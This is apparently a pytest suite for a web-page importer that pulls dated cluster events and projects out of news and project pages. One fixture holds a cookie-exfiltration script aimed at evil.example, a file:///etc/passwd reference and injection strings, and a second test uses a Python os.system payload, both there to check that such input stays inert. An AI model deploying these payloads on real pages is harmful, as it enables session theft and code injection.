"""Tests of the page importer (`evidence.pages`) and its date finder (`evidence.pages.dates`).

The expected items of the three sample pages were written down by hand from reading the
pages, not from the importer's output. The samples are read at run time; only short
titles and dates appear here.
"""

from __future__ import annotations

import builtins
import json
import socket
import urllib.request
from datetime import date
from difflib import SequenceMatcher
from pathlib import Path
from typing import Any

import pytest

from evidence.pages.dates import find_dates, find_partial_dates
from evidence.pages.html import extract
from evidence.pages.importer import ParsedItem, parse_page, split_items, to_records

SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"
D = date

# (title, start, end, kind) as a careful reader finds them; a one-day event ends that day.
# Month-only dates ("10/2016", "December 2017") run from the month's first to last day.
EXPECTED: dict[str, list[tuple[str, date, date, str]]] = {
    "cluster-news-page.txt": [
        ("Grow your region", D(2017, 11, 6), D(2017, 11, 6), "event"),
        ("Study visit Solartys", D(2017, 11, 6), D(2017, 11, 6), "event"),
        ("Visit of the Israeli ambassador", D(2019, 4, 4), D(2019, 4, 4), "event"),
        ("Visit of laboratories within engineering forum", D(2019, 3, 27), D(2019, 3, 27),
         "event"),
        ("The Czech nano sector introduced itself in Britain", D(2017, 6, 12), D(2017, 6, 14),
         "event"),
        ("Cosmoprof 2019 Bologna", D(2019, 3, 12), D(2019, 3, 15), "event"),
        ("Nanoprogres on week of innovation", D(2017, 5, 22), D(2017, 5, 28), "event"),
        ("International Conference on Textile Coating and Laminating 2019", D(2019, 3, 14),
         D(2019, 3, 15), "event"),
        ("Nanoprogress at the largest fair TechTextil 2017 in Frankfurt am Main", D(2017, 5, 8),
         D(2017, 5, 12), "event"),
        ("IMDEA Água Madrid", D(2018, 5, 25), D(2018, 5, 25), "event"),
        ("Czech nanotechnologies were presented in the USA", D(2016, 10, 25), D(2016, 10, 28),
         "event"),
        ("Techconnect USA", D(2018, 5, 12), D(2018, 5, 18), "event"),
        ("Nanoday in Brussels", D(2018, 5, 3), D(2018, 5, 3), "event"),
        ("Czech is Nano in Austria", D(2016, 4, 20), D(2016, 4, 20), "event"),
        ("Workshop for dissemination of cluster excellence", D(2018, 4, 5), D(2018, 4, 5),
         "event"),
        ("Nanoprogress has earned the Gold Label of the European Cluster Excellence Initiative",
         D(2017, 12, 1), D(2017, 12, 31), "event"),
        ("Adpack meeting", D(2016, 3, 2), D(2016, 3, 2), "event"),
        ("Czech is nano Portugal", D(2017, 11, 13), D(2017, 11, 13), "event"),
    ],
    "association-projects-page.txt": [
        ("KETGATE", D(2017, 7, 1), D(2020, 8, 31), "project"),
        ("DanuBioValNet", D(2017, 1, 1), D(2019, 6, 30), "project"),
        ("V4Clusters Go International (V4ClusGO)", D(2016, 10, 1), D(2017, 9, 30), "project"),
        ("V4ClusterPol", D(2016, 1, 1), D(2016, 12, 31), "project"),
        ("The Importance of Clusters for the Trade and SMEs Development", D(2016, 6, 1),
         D(2016, 11, 30), "project"),
        ("Gender in Innovation - Innovation in Clusters", D(2014, 12, 1), D(2015, 11, 30),
         "project"),
        ("V4Clusters", D(2013, 10, 1), D(2014, 12, 31), "project"),
        ("CluStrat", D(2011, 10, 1), D(2014, 11, 30), "project"),
    ],
    "project-report-page.txt": [
        ("Development of inter-cluster cross-border cooperation in emerging industries",
         D(2016, 1, 1), D(2017, 12, 31), "project"),
    ],
}  # fmt: skip
# Items a careful reader finds without a usable date: they must be problems, not records.
# ("4 October" and "sixteenth of March" have no year; "taken from <date>" dates a source.)
UNDATED = {
    "cluster-news-page.txt": [
        "Nanoprogress develops the concept of triple helix",
        "V4Clusters Go International",
        "Gold cluster Nanoprogress on Day of clusters",
        "Unique machine from Liberec",
        "Nanoprogres on the Second Czech Nano day",
    ],
    "association-projects-page.txt": ["CreaClust", "C-PLUS", "Constructing Regional Advantage"],
}


def _sample(name: str) -> str:
    if not SAMPLES.is_dir():
        pytest.skip(f"sample pages not found in {SAMPLES}")
    return (SAMPLES / name).read_text(encoding="utf-8")


def _same_title(a: str, b: str) -> bool:
    a, b = a.casefold(), b.casefold()
    return a in b or b in a or SequenceMatcher(None, a, b).ratio() >= 0.6


def test_precision_and_recall_on_the_sample_pages() -> None:
    found = expected = matched = 0
    for name, wanted in EXPECTED.items():
        items = parse_page(_sample(name), filename=name).items
        found += len(items)
        expected += len(wanted)
        free = list(items)
        for title, start, end, kind in wanted:
            hit = next(
                (i for i in free if (i.kind, i.start, i.end) == (kind, start, end)
                 and _same_title(i.title, title)),
                None,
            )  # fmt: skip
            if hit is None:
                print(f"MISSED {name}: {title!r} {start} {end} {kind}")
                continue
            free.remove(hit)
            matched += 1
        for extra in free:
            print(f"EXTRA {name}: {extra.title!r} {extra.start} {extra.end} {extra.kind}")
    p, r = matched / found, matched / expected
    print(f"precision={p:.2f} recall={r:.2f}")
    assert p >= 0.9
    assert r >= 0.9


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_every_date_is_in_its_own_item_text(name: str) -> None:
    text = _sample(name)
    result = parse_page(text, filename=name)
    records = to_records(result, cluster="sample")
    assert len(records) == len(result.items)
    for item, record in zip(result.items, records, strict=True):
        assert item.date_text in item.text
        assert text[item.offset :].startswith(item.text[:20])  # the offset is the item's
        spans = find_dates(item.date_text)
        assert len(spans) == 1
        assert (spans[0].start, spans[0].end) == (item.start, item.end)
        assert (record.start, record.end) == (item.start, item.end)
        assert record.status == "draft"
        assert record.source is not None
        assert (record.source.file, record.source.offset) == (name, item.offset)


@pytest.mark.parametrize("name", sorted(UNDATED))
def test_undated_sample_items_are_problems(name: str) -> None:
    result = parse_page(_sample(name), filename=name)
    titles = [i.title for i in result.items]
    for heading in UNDATED[name]:
        assert any(heading in message for _, message in result.problems), heading
        assert not any(heading in t for t in titles)


def test_fields_of_sample_items() -> None:
    items = {i.title: i for n in EXPECTED for i in parse_page(_sample(n), filename=n).items}
    ket = items["KETGATE"]
    assert (ket.acronym, ket.role, ket.funder) == ("KETGATE", "partner", "European Union (ERDF)")
    assert ket.partner_countries == ("DE", "IT", "CZ")
    assert "Veneto Innovazione" in ket.partners
    assert items["V4Clusters Go International (V4ClusGO)"].acronym == "V4ClusGO"
    assert set(items["V4Clusters"].partner_countries) == {"CZ", "HU", "PL", "SK"}
    report = items["Development of inter-cluster cross-border cooperation in emerging industries"]
    assert report.funder == "MPO"
    grow = items["Grow your region"]
    assert (grow.city, grow.country, grow.role) == ("Valencia", "ES", "participant")
    assert (items["Cosmoprof 2019 Bologna"].city, items["Cosmoprof 2019 Bologna"].country) == (
        "Bologna", "IT",
    )  # fmt: skip
    assert items["Study visit Solartys"].city is None  # no place in its text: no guess


# ---------------------------------------------------------------- find_dates, form by form

CASES: list[tuple[str, str, date, date, str]] = [
    # (text, matched text, start, end, precision)
    ("Grow your region 6. 11. 2017", "6. 11. 2017", D(2017, 11, 6), D(2017, 11, 6), "day"),
    ("On April 4, 2019, the ambassador", "April 4, 2019", D(2019, 4, 4), D(2019, 4, 4), "day"),
    ("8.5. - 12.5. 2017 at the fair", "8.5. - 12.5. 2017", D(2017, 5, 8), D(2017, 5, 12), "day"),
    ("8.5. – 12.5. 2017", "8.5. – 12.5. 2017", D(2017, 5, 8), D(2017, 5, 12), "day"),
    ("On March 12-15, 2019, one", "March 12-15, 2019", D(2019, 3, 12), D(2019, 3, 15), "day"),
    ("visited it between the 25th and 28th of October, 2016, to",
     "between the 25th and 28th of October, 2016", D(2016, 10, 25), D(2016, 10, 28), "day"),
    ("KETGATE (01/07/2017 - 31/08/2020)", "(01/07/2017 - 31/08/2020)", D(2017, 7, 1),
     D(2020, 8, 31), "day"),
    ("X (10/2016 - 09/2017)", "(10/2016 - 09/2017)", D(2016, 10, 1), D(2017, 9, 30), "month"),
    ("V4Clusters (10/2013-12/2014)", "(10/2013-12/2014)", D(2013, 10, 1), D(2014, 12, 31),
     "month"),
    ("It started in January 2016 and ended in December 2017.",
     "started in January 2016 and ended in December 2017", D(2016, 1, 1), D(2017, 12, 31),
     "month"),
    ("Konference 12. března 2019 v Brně", "12. března 2019", D(2019, 3, 12), D(2019, 3, 12),
     "day"),
    ("Veletrh od 8. do 12. května 2017.", "od 8. do 12. května 2017", D(2017, 5, 8),
     D(2017, 5, 12), "day"),
    ("Projekt od 1. června do 15. července 2018", "od 1. června do 15. července 2018",
     D(2018, 6, 1), D(2018, 7, 15), "day"),
    ("1. ledna 2016 až 31. prosince 2017", "1. ledna 2016 až 31. prosince 2017", D(2016, 1, 1),
     D(2017, 12, 31), "day"),
    ("zahájen v březnu 2019", "březnu 2019", D(2019, 3, 1), D(2019, 3, 31), "month"),
    ("leden 2016", "leden 2016", D(2016, 1, 1), D(2016, 1, 31), "month"),
    ("20. září 2018", "20. září 2018", D(2018, 9, 20), D(2018, 9, 20), "day"),
    ("listopad 2017", "listopad 2017", D(2017, 11, 1), D(2017, 11, 30), "month"),
    ("The event was from 22 to 28 May 2017.", "from 22 to 28 May 2017", D(2017, 5, 22),
     D(2017, 5, 28), "day"),
    ("Between May 12, 2018 and May 18, 2018, the", "Between May 12, 2018 and May 18, 2018",
     D(2018, 5, 12), D(2018, 5, 18), "day"),
    ("was held on 12-14. 6th 2017 and", "12-14. 6th 2017", D(2017, 6, 12), D(2017, 6, 14), "day"),
    ("On 25 May 2018, the", "25 May 2018", D(2018, 5, 25), D(2018, 5, 25), "day"),
    ("Adpack meeting 2.3.2016", "2.3.2016", D(2016, 3, 2), D(2016, 3, 2), "day"),
    ("awarded in December 2017 the", "December 2017", D(2017, 12, 1), D(2017, 12, 31), "month"),
    ("April 28 - May 2, 2019", "April 28 - May 2, 2019", D(2019, 4, 28), D(2019, 5, 2), "day"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "matched", "start", "end", "precision"), CASES)
def test_find_dates_forms(text: str, matched: str, start: date, end: date, precision: str) -> None:
    spans = find_dates(text)
    assert len(spans) == 1, spans
    span = spans[0]
    assert (span.text, span.start, span.end, span.precision) == (matched, start, end, precision)
    assert text[span.offset : span.offset + len(span.text)] == span.text


@pytest.mark.parametrize(
    "text",
    [
        "today", "yesterday we met", "Golden Cluster 2016", "since 1992",
        "2.22.2017",  # no 22nd month; dateparser would quietly read it as 22 February
        "31.2.2017", "on 4 October", "on the sixteenth of March", "they may 2019 march",
        "152 160 EUR, approx. 3.7 Mio.", "RIS3 strategy, V4 clusters", "1/0/2017",
    ],
)  # fmt: skip
def test_find_dates_invents_nothing(text: str) -> None:
    assert find_dates(text) == []


def test_partial_dates_are_named_but_not_dates() -> None:
    assert [p.text for p in find_partial_dates("held on 4 October as its fourth stop")] == [
        "4 October"
    ]
    assert [p.text for p in find_partial_dates("on the sixteenth of March")] == [
        "sixteenth of March"
    ]
    assert find_partial_dates("on 4 October 2017") == []


# ---------------------------------------------------------------- pages and safety


def test_item_without_date_is_a_problem_not_a_record() -> None:
    page = (
        "Our annual meeting\n\nMembers met to discuss the strategy and the budget.\n\n"
        "Fair visit 6. 11. 2017\n\nWe attended the fair in Brno.\n"
    )
    result = parse_page(page, filename="news.txt")
    assert [i.title for i in result.items] == ["Fair visit"]
    assert result.problems == [
        (0, "item 'Our annual meeting' at offset 0 has no date; not imported")
    ]
    records = to_records(result, cluster="demo")
    assert [(r.title, r.start, r.kind) for r in records] == [
        ("Fair visit", D(2017, 11, 6), "event")
    ]
    event: Any = records[0]
    assert (event.city, event.country, event.role) == ("Brno", "CZ", "participant")
    assert event.source.offset == page.index("Fair visit")


def test_reference_dates_are_not_item_dates() -> None:
    page = "Day of clusters\n\nThe day was held on 4 October. (parts taken from 10.10.2017)\n"
    result = parse_page(page, filename="n.txt")
    assert result.items == []
    assert "'4 October' without a year" in result.problems[0][1]


def test_text_items_keep_bullets_and_funding_lines() -> None:
    page = (
        "Current projects:\n\nSMARTCLUST (01/2018 - 06/2020)\n\n"
        "Project co-funded by the European Union (Interreg)\n\n"
        "The project connects clusters across borders and regions of Europe.\n\n"
        "Project Partners:\n\n  • Alpha GmbH, DE\n  • Beta s.r.o., CZ\n  • Gamma Oy, Finland\n"
    )
    items = split_items(page)
    assert [i.heading for i in items] == ["SMARTCLUST (01/2018 - 06/2020)"]
    assert "Gamma Oy" in items[0].body
    parsed = parse_page(page, filename="p.txt").items[0]
    assert (parsed.kind, parsed.title, parsed.acronym) == ("project", "SMARTCLUST", "SMARTCLUST")
    assert (parsed.start, parsed.end) == (D(2018, 1, 1), D(2020, 6, 30))
    assert parsed.funder == "European Union (Interreg)"
    assert parsed.partners == ("Alpha GmbH", "Beta s.r.o.", "Gamma Oy")
    assert parsed.partner_countries == ("DE", "CZ", "FI")


def test_kind_can_be_forced() -> None:
    page = "Fair visit 6. 11. 2017\n\nWe attended the fair in Brno.\n"
    assert parse_page(page, filename="x.txt", kind="project").items[0].kind == "project"
    with pytest.raises(ValueError):
        parse_page(page, filename="x.txt", kind="member")


def test_cluster_name_marks_organiser() -> None:
    page = "Nanoday 3. 5. 2018\n\nThe event was organized by Nanoprogress together with ALDE.\n"
    item = parse_page(page, filename="x.txt", cluster_name="Nanoprogress").items[0]
    assert item.role == "co_organiser"


HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>News</title><style>h2 { color: red }</style>
<script>fetch('http://evil.example/steal?c=' + document.cookie)</script></head>
<body>
<h2>Grow your region 6. 11. 2017</h2>
<p>We took part in the conference in Valencia. <img src="file:///etc/passwd"></p>
<script>alert("12. 3. 2019")</script>
<h2>&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} =HYPERLINK("http://x") 4. 4. 2019</h2>
<p>Our <b>own</b> meeting &amp; workshop in Brno.<iframe src="http://evil.example/"></iframe></p>
<h2>No date here</h2><p>Just words.</p>
</body></html>"""


def test_html_page_splits_and_fetches_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"something was fetched: {args!r}")

    real_open = builtins.open

    def guarded_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if "passwd" in str(file) or str(file).startswith(("file:", "http")):
            refuse(file)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(builtins, "open", guarded_open)

    page = extract(HOSTILE_HTML)
    items = split_items(page.text, headings=frozenset(page.headings))
    assert [i.heading for i in items] == [
        "Grow your region 6. 11. 2017",
        '<script>alert(1)</script> {{ 7*7 }} =HYPERLINK("http://x") 4. 4. 2019',
        "No date here",
    ]
    joined = " ".join(i.text for i in items)
    assert 'alert("12' not in joined and "cookie" not in joined and "color" not in joined
    assert "passwd" not in joined

    result = parse_page(HOSTILE_HTML, filename="news.html", html=True)
    assert [(i.title, i.start) for i in result.items] == [
        ("Grow your region", D(2017, 11, 6)),
        ('<script>alert(1)</script> {{ 7*7 }} =HYPERLINK("http://x")', D(2019, 4, 4)),
    ]
    assert [m for _, m in result.problems if "'No date here'" in m]
    records = to_records(result, cluster="demo")
    assert records[1].title == '<script>alert(1)</script> {{ 7*7 }} =HYPERLINK("http://x")'
    assert "Our own meeting & workshop in Brno." in result.items[1].text
    # the source points into the file as saved: the heading's tag
    assert records[0].source is not None and records[0].source.offset is not None
    assert HOSTILE_HTML[records[0].source.offset :].startswith("<h2>Grow your region")


def test_python_in_titles_stays_text() -> None:
    page = "__import__('os').system('echo pwned') 6. 11. 2017\n\nWe attended.\n"
    item: ParsedItem = parse_page(page, filename="x.txt").items[0]
    assert item.title == "__import__('os').system('echo pwned')"
    assert to_records(parse_page(page, filename="x.txt"), cluster="c")[0].title == item.title


def test_html_without_heading_tags_and_text_with_crlf() -> None:
    page = (
        "<p><strong>Grow your region 6. 11. 2017</strong></p>"
        "<p>We took part in the conference in Valencia with partners from many regions.</p>"
    )
    items = parse_page(page, filename="a.html", html=True).items
    assert [(i.title, i.city, i.country) for i in items] == [("Grow your region", "Valencia", "ES")]
    crlf = "Fair visit 6. 11. 2017\r\n\r\nWe attended the fair in Brno.\r\n"
    assert parse_page(crlf, filename="x.txt").items[0].title == "Fair visit"


def test_dated_text_above_the_first_heading_is_an_item() -> None:
    page = "On 6. 11. 2017 we held a workshop in Brno.\n\nHeading 7. 11. 2017\n\nBody text.\n"
    result = parse_page(page, filename="x.txt")
    assert [(i.start, i.title) for i in result.items] == [
        (D(2017, 11, 6), "On 6. 11. 2017 we held a workshop in Brno"),
        (D(2017, 11, 7), "Heading"),
    ]
    assert result.items[0].offset == 0


# ---------------------------------------------------------------- which dates make records


def _one(page: str, **kwargs: Any) -> list[tuple[date, date, str]]:
    result = parse_page(page, filename="x.txt", **kwargs)
    return [(i.start, i.end, i.date_text) for i in result.items]


def test_publication_dates_deadlines_and_links_are_not_items() -> None:
    page = (
        "Cluster meeting in Zlín\n\nPublished: 3 March 2020\n\n"
        "The members met on 2 March 2020 in Zlín. Registration for the next one closes on "
        "20 March 2020; apply by 25 March 2020. See https://example.org/event/7-12-2022/ "
        "for photos. The cluster was founded in 2005.\n"
    )
    assert _one(page) == [(D(2020, 3, 2), D(2020, 3, 2), "2 March 2020")]
    result = parse_page(page, filename="x.txt")
    assert result.items[0].title == "Cluster meeting in Zlín"


def test_an_article_reporting_two_meetings_gives_two_drafts() -> None:
    page = (
        "Cluster news\n\nOn 28.11.2022 the members met online. They agreed to take part in "
        "the Days of Clusters on 7-8.12.2022 in Jihlava.\n"
    )
    assert [(s, e) for s, e, _ in _one(page)] == [
        (D(2022, 11, 28), D(2022, 11, 28)),
        (D(2022, 12, 7), D(2022, 12, 8)),
    ]
    titles = [i.title for i in parse_page(page, filename="x.txt").items]
    assert titles[0] == "Cluster news" and "Days of Clusters" in titles[1]


def test_a_dated_heading_dates_its_item_alone() -> None:
    page = "Fair visit 6. 11. 2017\n\nWe met the partners we had first seen on 2. 2. 2016.\n"
    assert _one(page) == [(D(2017, 11, 6), D(2017, 11, 6), "6. 11. 2017")]


def test_an_implied_year_comes_from_the_publication_date_and_is_noted() -> None:
    page = (
        "Info day recap\n\nSubmitted by the editor on 22 October 2021\n\n"
        "The info day was held on 20 October with 300 participants. "
        "The deadline for the call is 30 November.\n"
    )
    result = parse_page(page, filename="x.txt")
    assert [(i.start, i.end) for i in result.items] == [(D(2021, 10, 20), D(2021, 10, 20))]
    note = to_records(result, cluster="c")[0].notes or ""
    assert "20 October" in note and "22 October 2021" in note


def test_a_year_the_page_does_not_give_is_reported_not_guessed() -> None:
    page = "Info day recap\n\nThe info day was held on 20 October with many participants.\n"
    result = parse_page(page, filename="x.txt")
    assert result.items == []
    assert "'20 October' without a year" in result.problems[0][1]


def test_an_implied_year_from_the_only_year_the_page_names() -> None:
    page = (
        "Expo 2015 matchmaking\n\nClusters meet at the fair. On 12th June, business "
        "meetings for SMEs will take place in parallel.\n"
    )
    assert _one(page) == [(D(2015, 6, 12), D(2015, 6, 12), "12th June")]


def test_a_year_alone_only_when_nothing_finer() -> None:
    only = "Cluster week\n\nIm Jahr 2019 hat das Team die Clusterwoche besucht.\n"
    assert [(s, e) for s, e, _ in _one(only)] == [(D(2019, 1, 1), D(2019, 12, 31))]
    assert parse_page(only, filename="x.txt").items[0].precision == "year"
    finer = (
        "CluStrat\n\nV roce 2010 byla vyhlášena výzva. Na úkolu budou partneři spolupracovat "
        "od října 2011 do září 2014.\n"
    )
    item = parse_page(finer, filename="x.txt").items
    assert [(i.start, i.end, i.precision, i.kind) for i in item] == [
        (D(2011, 10, 1), D(2014, 9, 30), "month", "project")
    ]


def test_a_month_alone_is_a_month_not_a_long_event() -> None:
    page = "Konference v Bruselu\n\nDvoudenní akce se bude konat v červnu 2020 v Bruselu.\n"
    item = parse_page(page, filename="x.txt").items[0]
    assert (item.start, item.end, item.precision, item.kind) == (
        D(2020, 6, 1), D(2020, 6, 30), "month", "event",
    )  # fmt: skip
    record = to_records(parse_page(page, filename="x.txt"), cluster="c")[0]
    assert record.date_precision == "month"


def test_an_item_about_someone_else_says_so() -> None:
    page = (
        "KETGATE (01/07/2017 - 31/08/2020)\n\nThe National Cluster Association is a project "
        "partner of the KETGATE project.\n\n"
        "Nanoday 3. 5. 2018\n\nThe event was organized by Nanoprogress in Brussels.\n"
    )
    result = parse_page(page, filename="x.txt", cluster_name="Nanoprogress", cluster="nano")
    notes = [r.notes or "" for r in to_records(result, cluster="nano")]
    assert "National Cluster Association" in notes[0] and "does not name the cluster" in notes[0]
    assert "does not name the cluster" not in notes[1]


NEWS_HTML = """<!DOCTYPE html><html lang="en"><head><title>Info day recap</title>
<meta property="article:published_time" content="2021-10-22T09:00:00+02:00"></head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/events">Events 12. 3. 2019</a></li></ul></nav>
<article><h1>Recap of the cluster info day</h1>
<p>The info day of the cluster on the new call was held on 20 October with more than
three hundred participants from twenty countries, in six sessions on resilience,
strategic autonomy and skills for the industrial ecosystems of the region.</p>
<p>The recording and the slides of every session are available to all members of the
cluster, and a second info day for the members who could not attend is being prepared
together with the partner clusters of the network.</p></article>
<footer><p>Conference of the network 5. 5. 2018</p><p>© 2021 The Cluster</p></footer>
</body></html>"""


def test_html_main_text_and_its_publication_date_give_the_year() -> None:
    result = parse_page(NEWS_HTML, filename="recap.html", html=True)
    assert [(i.title, i.start, i.end) for i in result.items] == [
        ("Recap of the cluster info day", D(2021, 10, 20), D(2021, 10, 20))
    ]  # the menu's and the footer's dates are not the page's items
    record = to_records(result, cluster="c")[0]
    assert "2021-10-22" in (record.notes or "")  # where the year came from
    assert record.source is not None and record.source.offset is not None
    assert NEWS_HTML[record.source.offset :].startswith("<h1>Recap")


def test_each_news_item_takes_its_implied_year_from_its_own_posting_date() -> None:
    page = (
        "News\n\nHydrogen seminar\n\n14 January 2023\n\nOur hydrogen seminar takes place on "
        "25 January in Ostrava.\n\nInnovation conference\n\n3 November 2022\n\nThe "
        "innovation conference will be held on 20 November in Brno.\n"
    )
    result = parse_page(page, filename="news.txt")
    assert [(i.title, i.start) for i in result.items] == [
        ("Hydrogen seminar", D(2023, 1, 25)),
        ("Innovation conference", D(2022, 11, 20)),
    ]  # the posting dates are neither the events' dates nor one page-wide year
    notes = [r.notes or "" for r in to_records(result, cluster="c")]
    assert "14 January 2023" in notes[0] and "3 November 2022" in notes[1]


def test_a_year_too_far_from_the_posting_date_is_reported() -> None:
    page = (
        "Members' forum\n\nPublished: 12 October 2023\n\nThe cluster held its members' forum "
        "on 20 March in Zlín. It also opened a new lab on 10 June 2023.\n"
    )
    result = parse_page(page, filename="x.txt")
    assert [i.start for i in result.items] == [D(2023, 6, 10)]  # "20 March": which one?
    assert any("'20 March' without a year" in m for _, m in result.problems)


def test_pages_in_other_encodings_are_read_and_named(tmp_path: Path) -> None:
    from evidence.findings import Finding
    from evidence.readers import read_rows

    text = "Setkání klastrů\n\nČlenové se sešli dne 5. 11. 2019 v Ostravě.\n"
    txt = tmp_path / "zpravy.txt"
    txt.write_bytes(text.encode("cp1250"))
    html = tmp_path / "zpravy.html"
    html.write_bytes(
        b'<html><head><meta charset="windows-1250"></head><body><h1>'
        + "Setkání klastrů".encode("cp1250")
        + b"</h1><p>"
        + ("Členové se sešli dne 5. 11. 2019 v Ostravě. " * 8).encode("cp1250")
        + b"</p></body></html>"
    )
    empty = tmp_path / "empty.txt"
    empty.write_text("  \n")
    for path in (txt, html):
        findings: list[Finding] = []
        records = list(read_rows(path, kind=None, findings=findings, cluster="c"))
        assert [(r.title, r.start) for r in records] == [("Setkání klastrů", D(2019, 11, 5))]
        assert any("Windows-1250" in f.message for f in findings), findings
    findings = []
    assert list(read_rows(empty, kind=None, findings=findings, cluster="c")) == []
    assert [f.message for f in findings] == ["the page is empty; nothing to import"]


def test_a_page_imported_again_keeps_what_the_manager_corrected(clex: Any, tmp_path: Path) -> None:
    page = tmp_path / "news.txt"
    page.write_text("Fair visit 6. 11. 2017\n\nWe attended the fair in Brno.\n", encoding="utf-8")
    assert clex("init", "--cluster", "nano", "--name", "Nano").code == 0
    assert clex("import", str(page), "--cluster", "nano").code == 0
    listed = clex("evidence", "list", "--cluster", "nano", "--json")
    (record,) = json.loads(listed.out)
    edit = clex("evidence", "edit", record["id"], "title=Fair visit in Brno", "role=exhibitor")
    assert edit.code == 0, edit
    again = clex("import", str(page), "--cluster", "nano")
    assert again.code == 0 and "1 unchanged" in again.out, again
    shown = clex("evidence", "show", record["id"], "--json")
    data = json.loads(shown.out)
    assert (data["title"], data["role"]) == ("Fair visit in Brno", "exhibitor")


def test_titles_right_above_their_text_head_items() -> None:
    page = (
        "SilesiaTech Cluster – News\n\n"
        "Hydrogen seminar\n14 January 2023\n"
        "The cluster organises a hydrogen seminar on 25 January in Ostrava.\n\n"
        "Members' meeting\nThe cluster organised a meeting of its members on 15 November 2021.\n"
    )
    result = parse_page(page, filename="news.txt")
    assert [(i.title, i.start) for i in result.items] == [
        ("Hydrogen seminar", D(2023, 1, 25)),
        ("Members' meeting", D(2021, 11, 15)),
    ]
    assert result.items[1].role == "organiser"


def test_a_calls_timetable_is_no_item() -> None:
    # a call's submission period, its results and a deadline after a weekday
    page = (
        "Open call for vouchers\n\n"
        "Application period: 2 February 2026 – 30 April 2026\n"
        "Results expected: June 2026\n\n"
        "Příjem žádostí: od 1. 3. 2026 do 15. 4. 2026. Záměry pošlete do pátku 20. února 2026.\n"
    )
    result = parse_page(page, filename="x.txt")
    assert result.items == []
    assert any("period" in message for _, message in result.problems)


def test_deadlines_in_more_languages_are_no_items() -> None:
    page = (
        "Konferencia 2026\n\nA konferenciát 2026. március 18–19. között tartjuk Szegeden.\n"
        "Jelentkezési határidő: 2026. február 27.\n"
        "Termín pro zaslání příspěvků je 2. 2. 2026.\n"
    )
    assert _one(page) == [(D(2026, 3, 18), D(2026, 3, 19), "2026. március 18–19.")]


def test_a_verb_of_duration_makes_years_the_projects_not_a_programmes() -> None:
    page = (
        "EduClust\n\nFunded by Erasmus+ under its 2021-2027 programme, EduClust runs "
        "2024–2027 with partners from four countries.\n"
    )
    assert _one(page) == [(D(2024, 1, 1), D(2027, 12, 31), "2024–2027")]
    assert parse_page(page, filename="x.txt").items[0].kind == "project"
    programme = "EduClust\n\nThe project is funded by Erasmus+ 2021-2027.\n"
    assert _one(programme) == []


@pytest.mark.parametrize(
    "sentence",
    [
        "Sredstva dolaze iz Europskog fonda za regionalni razvoj 2021–2027.",  # no programme word
        "Le guide complète le PO FEDER 2014-2020 de la région.",  # an acronym
        "Financiranje prihaja iz sklada ESRR 2021 – 2027.",
    ],
)
def test_an_eu_budget_period_is_a_programmes_not_a_project(sentence: str) -> None:
    page = f"Zelena tovarna\n\nKlaster je začel projekt. {sentence}\n"
    assert _one(page) == []
    # a project's own years that are no budget period stay its years
    assert _one(f"Zelena tovarna\n\nProjekt teče 2022–2025. {sentence}\n") == [
        (D(2022, 1, 1), D(2025, 12, 31), "2022–2025")
    ]


def test_a_press_dateline_is_the_publication_date_and_dates_the_event() -> None:
    page = (
        "Setkání členů klastru\n\n"
        "Ostrava, 3. března 2025 – Klastr zve své členy na jarní setkání, které se uskuteční "
        "25. března v prostorách vědeckotechnického parku.\n"
    )
    result = parse_page(page, filename="x.txt")
    assert [(i.start, i.date_text) for i in result.items] == [(D(2025, 3, 25), "25. března")]
    assert "3. března 2025" in (result.items[0].date.year_from or "")
    # an event list's short "place, date – title" line is an event, not a dateline
    listed = "Termine\n\nBrno, 12. 11. 2025 – Matchmaking Day\nMeetings with buyers.\n"
    assert [s for s, _, _ in _one(listed)] == [D(2025, 11, 12)]


def test_a_list_of_dated_lines_gives_one_item_each() -> None:
    page = (
        "Termine\n\n"
        "14.05.2026 | Mitgliedertreffen Ulm\nAustausch mit den Zulieferern, ab 17 Uhr.\n\n"
        "02.–03.06.2026 | Messestand Hannover\nSechs Mitglieder stellen gemeinsam aus.\n\n"
        "19.06.2026 | Webinar Normung\nNeue Normen kurz erklärt.\n"
    )
    assert [(s, e) for s, e, _ in _one(page)] == [
        (D(2026, 5, 14), D(2026, 5, 14)),
        (D(2026, 6, 2), D(2026, 6, 3)),
        (D(2026, 6, 19), D(2026, 6, 19)),
    ]


def test_publication_labels_of_more_languages() -> None:
    for label in ("Fecha de publicación:", "Data di pubblicazione:", "Date de publication :"):
        page = (
            f"Jornada técnica\n\nLa jornada se celebró el 4 de marzo de 2026.\n\n{label} 9/3/2026\n"
        )
        assert _one(page) == [(D(2026, 3, 4), D(2026, 3, 4), "4 de marzo de 2026")], label


def test_several_place_and_date_lines_are_events_not_datelines() -> None:
    """A press release has one dateline ("Praha, 28. srpna 2024 – ..."); several such lines
    are a list of events, each an item (they were all taken as publication dates)."""
    from evidence.pages.importer import parse_page

    text = (
        "Akce klastru 2024\n\n"
        "Ostrava, 5. 6. 2024 – Workshop o vodíkových technologiích pro členy klastru s "
        "exkurzí do laboratoří univerzity a diskusí.\n\n"
        "Brno, 12. 9. 2024 – Setkání členů klastru s představením nových projektů a "
        "výsledků spolupráce s firmami v regionu.\n"
    )
    found = parse_page(text, filename="akce.txt").items
    assert [i.start for i in found] == [date(2024, 6, 5), date(2024, 9, 12)]


def test_a_funding_calls_page_dates_its_timetable_not_activities() -> None:
    body = (
        "\n\nThe region opens grants for cluster organisations and their members.\n\n"
        "Eligible projects must start on 1 March 2026 at the earliest and run from "
        "1 March 2026 to 28 February 2028.\n\n"
        "Info day\nWe present the call at an info day on 14 January 2026 in Umeå.\n"
    )
    call = parse_page("Call for proposals: Cluster Boost 2026" + body, filename="c.txt")
    assert [(i.start, i.end) for i in call.items] == [(D(2026, 1, 14), D(2026, 1, 14))]
    assert any("funding call" in message for _, message in call.problems)
    # the same paragraphs under a cluster's own title are its project and its event
    own = parse_page("Cluster Boost 2026" + body, filename="c.txt")
    assert (D(2026, 3, 1), D(2028, 2, 28)) in [(i.start, i.end) for i in own.items]


